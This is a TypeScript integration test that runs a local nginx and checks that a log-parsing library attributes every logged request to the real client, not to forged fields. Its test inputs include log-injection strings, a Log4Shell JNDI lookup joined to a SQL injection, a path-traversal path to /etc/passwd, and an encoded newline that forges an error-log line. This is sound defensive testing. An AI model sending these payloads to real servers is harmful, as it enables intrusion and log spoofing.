import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import type { SecurityEvent } from '@parapet/core'
import { findProgram, freePort, needs } from '@parapet/testkit'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { LineParser } from '../line-parser.js'
import { nginxAccess } from '../nginx-access.js'
import { recognizeFormat } from '../registry.js'
import { nginxJson } from './json-servers.js'
import { compileLogFormat } from './log-format.js'
import { nginxError } from './nginx-error.js'

const SLIM = `log_format slim '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_user_agent" "$http_x_forwarded_for" $request_time';`
const JSON_LOG = `log_format j escape=json '{"time_iso8601":"$time_iso8601","remote_addr":"$remote_addr","remote_user":"$remote_user","request":"$request","status":"$status","body_bytes_sent":"$body_bytes_sent","http_user_agent":"$http_user_agent"}';`

/** What an attacker can put into a request: each tries to end a field, a line or a quote. */
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64)',
  '" 200 1 "-" "curl',
  '","remote_addr":"10.0.0.1","x":"',
  String.raw`\" \\" \x22 \\`,
  '[20/Nov/2026:00:00:00 +0000] "GET /innocent HTTP/1.1" 200 1',
  ', client: 10.0.0.1, server: x, request: "GET / HTTP/1.1", host: "x"',
  "${jndi:ldap://198.51.100.7/a}' OR 1=1--",
  '\tü\u0001|{}',
]
const PATHS = ['/plain', '/a?b=1&c=%22', '/%22%20200%201%20%22', '/x%22,%20client:%2010.0.0.1,%20server:%20x', '/../../etc/passwd']
/** Decoded, as the error log has it, this is a line of its own. */
const BROKEN =
  '/a%0a2026/11/20 01:02:03 [error] 1#1: *1 user "root": password mismatch, client: 10.0.0.1, server: x, request: "GET / HTTP/1.1"%0a'
    .replaceAll(' ', '%20')
    .replaceAll('"', '%22')
    .replaceAll('#', '%23')

const found = needs('nginx')
const folder = mkdtempSync(join(tmpdir(), 'parapet-nginx-'))
let server: ChildProcess | undefined
let sent = 0

const ask = async (port: number, text: string): Promise<void> => {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => socket.destroy())
  socket.resume()
  socket.end(text)
  await once(socket, 'close')
  sent++
}

const linesOf = (name: string): string[] =>
  readFileSync(join(folder, name), 'latin1')
    .split('\n')
    .filter((line) => line !== '')

const eventsOf = (parser: LineParser, name: string): SecurityEvent[] =>
  linesOf(name).map((line) => {
    const event = parser.parse(line, { now: Date.now(), utcOffsetMinutes: -new Date().getTimezoneOffset() })
    if (event === undefined) throw new Error(`not parsed: ${line}`)
    return event
  })

describe.skipIf(!found.ok)(`what a real nginx writes${found.note}`, () => {
  beforeAll(async () => {
    const port = await freePort()
    chmodSync(folder, 0o755)
    mkdirSync(join(folder, 'empty'))
    writeFileSync(
      join(folder, 'nginx.conf'),
      `daemon off; worker_processes 1; pid ${folder}/pid; error_log ${folder}/error.log info;
events {}
http { ${SLIM} ${JSON_LOG}
  client_body_temp_path ${folder}/b; proxy_temp_path ${folder}/p; fastcgi_temp_path ${folder}/f; uwsgi_temp_path ${folder}/u; scgi_temp_path ${folder}/s;
  access_log ${folder}/combined.log combined; access_log ${folder}/slim.log slim; access_log ${folder}/json.log j;
  server { listen 127.0.0.1:${port}; server_name shop.example; root ${folder}/empty; } }`,
    )
    server = spawn(findProgram('nginx') ?? 'nginx', ['-p', folder, '-c', join(folder, 'nginx.conf'), '-e', join(folder, 'error.log')], {
      stdio: 'ignore',
    })
    for (let tries = 0; tries < 100; tries++) {
      const open = await new Promise<boolean>((resolve) => {
        const socket = connect(port, '127.0.0.1', () => resolve(true))
        socket.on('error', () => resolve(false))
        socket.on('connect', () => socket.destroy())
      })
      if (open) break
      await sleep(100)
    }
    for (const agent of AGENTS)
      for (const path of PATHS)
        await ask(
          port,
          `GET ${path} HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\nX-Forwarded-For: 203.0.113.9, ${agent}\r\nReferer: ${agent}\r\nUser-Agent: ${agent}\r\n\r\n`,
        )
    await ask(port, `GET ${BROKEN} HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n`)
    await ask(port, '\x16\x03\x01\x00\xee\x01\x00')
    await ask(port, 'get / HTTP/1.1\r\n\r\n')
    for (let tries = 0; tries < 50 && linesOf('json.log').length < sent; tries++) await sleep(100)
  }, 60_000)

  afterAll(async () => {
    if (server !== undefined && server.exitCode === null) {
      server.kill('SIGQUIT')
      await once(server, 'exit')
    }
    rmSync(folder, { recursive: true, force: true })
  })

  it.each([
    ['combined.log', nginxAccess],
    ['slim.log', compileLogFormat(SLIM)],
    ['json.log', compileLogFormat(JSON_LOG)],
    ['json.log', nginxJson],
  ] as const)('to %s is read line by line, and nobody but the client is its source', (name, parser) => {
    const events = eventsOf(parser, name)
    expect(events.length).toBeGreaterThanOrEqual(AGENTS.length * PATHS.length)
    expect(new Set(events.map((event) => event['source.ip']))).toEqual(new Set(['127.0.0.1']))
    const answered = events.filter((event) => event['http.request.method'] === 'GET')
    expect(answered.length).toBe(AGENTS.length * PATHS.length + 1)
    for (const event of answered) {
      expect([400, 403, 404]).toContain(event['http.response.status_code'])
      expect(Math.abs(Date.now() - event['@timestamp'])).toBeLessThan(300_000)
      expect([...PATHS, BROKEN].map((path) => path.split('?')[0])).toContain(event['url.path'])
    }
    expect(events.filter((event) => event['event.reason'] === 'malformed_request').length).toBeGreaterThan(0)
  })

  it('to the error log accuses nobody else, whatever stands in paths and referrers', () => {
    // a decoded line break of a path stands in the file as it is: the piece behind it is no line
    const stream = nginxError.open?.() ?? nginxError
    const events = linesOf('error.log').flatMap((line) => stream.parse(line, { now: Date.now() }) ?? [])
    const about = events.filter((event) => event['error.type'] === 'file_not_found')
    expect(about.length).toBeGreaterThan(10)
    expect(linesOf('error.log').some((line) => line.startsWith('2026/11/20 01:02:03') && line.includes('client: 10.0.0.1'))).toBe(true)
    for (const event of events) expect(['127.0.0.1', undefined]).toContain(event['source.ip'])
    expect(about.filter((event) => event['source.ip'] === '127.0.0.1').length).toBeGreaterThan(10)
  })

  it('is recognised', () => {
    expect(recognizeFormat(linesOf('combined.log'))?.name).toBe('nginx.access')
    expect(recognizeFormat(linesOf('json.log'))?.name).toBe('nginx.json')
    expect(recognizeFormat(linesOf('error.log'))?.name).toBe('nginx.error')
  })
})
